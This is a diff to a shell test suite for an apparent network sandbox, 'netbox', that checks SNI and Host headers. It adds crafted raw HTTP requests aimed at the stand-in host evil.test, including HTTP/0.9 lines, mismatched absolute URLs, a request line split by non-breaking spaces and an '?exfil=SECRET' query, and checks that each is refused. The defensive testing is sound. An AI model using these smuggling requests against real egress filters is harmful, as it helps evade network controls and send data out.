@@ -214,6 +214,8 @@ t_like "$ERR" "^netbox: denied www\.google\.com:443 \(SNI evil\.test does not ma
 nbx --allow www.google.com curl -sS --max-time 10 -H "Host: evil.test" http://www.google.com/echo-host
 t_ok "$([ "$RC" != 0 ]; echo $?)" "Host: evil.test to www.google.com's address is refused"
 t_like "$ERR" "^netbox: denied www\.google\.com:80 \(Host evil\.test does not match www\.google\.com\)" "the Host mismatch is reported"
+nbx --allow www.google.com $(probe send www.google.com 80 0 'GET%20http://evil.test/hello%0D%0A')
+t_like "$ERR" "^netbox: denied www\.google\.com:80 \(HTTP/0\.9 carries no Host" "HTTP/0.9 on port 80 is refused, and says why"
 t_is "$(grep -c . "$LAB_HTTP_LOG")" 0 "no mismatched request reached the lab's web servers"
 nbx --allow www.google.com curl -sS --max-time 10 -H "Host: WWW.Google.COM." http://www.google.com/echo-host
 t_is "$RC:$OUT" "0:WWW.Google.COM." "a Host header that only differs in case and trailing dot passes unchanged"
@@ -242,6 +244,22 @@ plain $(probe send allowed.test $HP 0 "$(req get evil.test)")
 t_is "$OUT" "reply HTTP/1.1 200 OK | hello from evil.test" "baseline: so does a lower-case get"
 plain $(probe send allowed.test $HP 0 'GET%20/hello%20HTTP/1.1%0D%0AHost:%20evil.test%0D%0A')
 t_is "$OUT" "reply HTTP/1.1 200 OK | hello from evil.test" "baseline: so does a head ended by the client's FIN"
+# Requests that name evil.test other than by Host, each shown reaching
+# evil.test's virtual host at allowed.test's address without netbox
+# (HTTP/0.9 is answered with the body alone, no status line):
+H09_ABS='GET%20http://evil.test/hello?exfil=SECRET%0D%0A'	# HTTP/0.9, an absolute URL
+H09_HOST='GET%20/hello%0D%0AHost:%20evil.test%0D%0A%0D%0A'	# HTTP/0.9, then a Host header
+H09_FIN='GET%20http://evil.test/hello'				# HTTP/0.9 ended by the client's FIN
+ABS11='GET%20http://evil.test/hello%20HTTP/1.1%0D%0AHost:%20allowed.test%0D%0AConnection:%20close%0D%0A%0D%0A'
+ABS10='GET%20http://evil.test/hello%20HTTP/1.0%0D%0A%0D%0A'	# the URL alone names the host
+# NBSP between the words: whitespace to Python's str.split(), which this
+# server (http.server, as wsgiref) splits the request line with
+NBSP='GET%A0/hello%A0HTTP/1.1%0D%0AHost:%20evil.test%0D%0AConnection:%20close%0D%0A%0D%0A'
+for r in "$H09_ABS" "$H09_HOST" "$H09_FIN" "$ABS11" "$ABS10" "$NBSP"; do
+	plain $(probe send allowed.test $HP 0 "$r")
+	t_like "$OUT" '^reply (HTTP/1\.1 200 OK \| )?hello from evil\.test( \| )?$' \
+		"baseline: $r at allowed.test's address reaches evil.test's virtual host"
+done
 : >"$LAB_HTTP_LOG"
 for m in PROPFIND get M-SEARCH; do
 	nbh --allow allowed.test:$HP $(probe send allowed.test $HP 0 "$(req $m evil.test)")
@@ -272,8 +290,25 @@ nbh --allow allowed.test:$HP $(probe send allowed.test $HP 0 'GET%20/hello%20HTT
 t_like "$ERR" "denied allowed\.test:$HP \(malformed HTTP request\)" "a head ended by the client's FIN is refused as malformed"
 nbh --allow allowed.test:$HP $(probe send allowed.test $HP 0 'PRI%20*%20HTTP/2.0%0D%0A%0D%0ASM%0D%0A%0D%0A')
 t_like "$ERR" "denied allowed\.test:$HP \(HTTP/2 without TLS \(h2c prior knowledge\)" "h2c prior knowledge on a rule's port is refused, and says why"
+for r in "$H09_ABS" "$H09_HOST" "$H09_FIN"; do
+	nbh --allow allowed.test:$HP $(probe send allowed.test $HP 0 "$r")
+	t_like "$OUT" "^(ECONNRESET|ENOTCONN|EPIPE)" "HTTP/0.9 on a rule's port is refused (reset): $r"
+	t_like "$ERR" "denied allowed\.test:$HP \(HTTP/0\.9 carries no Host" "... and says why"
+done
+nbh --allow allowed.test:$HP $(probe send allowed.test $HP 0 "$ABS11")
+t_like "$ERR" "denied allowed\.test:$HP \(malformed HTTP request\)" \
+	"HTTP/1.1 with an absolute URL for evil.test and Host: allowed.test is refused (they disagree)"
+nbh --allow allowed.test:$HP $(probe send allowed.test $HP 0 "$NBSP")
+t_like "$ERR" "denied allowed\.test:$HP \(malformed HTTP request\)" \
+	"a request line split by NBSP is HTTP to netbox too, and refused as malformed"
+nbh --allow allowed.test:$HP $(probe send allowed.test $HP 0 "$ABS10")
+t_like "$ERR" "denied allowed\.test:$HP \(Host evil\.test does not match allowed\.test\)" \
+	"HTTP/1.0 with an absolute URL for evil.test is refused: the URL names the host"
+nbh --allow allowed.test:$HP $(probe send allowed.test $HP 0 \
+	'GET%20http://allowed.test/hello%20HTTP/1.1%0D%0AHost:%20allowed.test%0D%0AConnection:%20close%0D%0A%0D%0A')
+t_is "$OUT" "reply HTTP/1.1 200 OK | hello from allowed.test" "... an absolute URL for allowed.test passes"
 t_is "$(grep -c ' evil\.test ' "$LAB_HTTP_LOG")" 0 "no request for evil.test reached the lab's :$HP"
-t_is "$(grep -c '^http allowed\.test [A-Za-z-]* /hello 200 ' "$LAB_HTTP_LOG")" 6 "the 6 requests with the right Host all arrived"
+t_is "$(grep -c '^http allowed\.test [A-Za-z-]* \(http://allowed\.test\)\?/hello 200 ' "$LAB_HTTP_LOG")" 7 "the 7 requests for allowed.test all arrived"
 t_unlike "$HOST_ERR" "AddressSanitizer|LeakSanitizer|runtime error" "no sanitizer report from these runs"
 
 # UDP (other than DNS) and ICMP go nowhere.
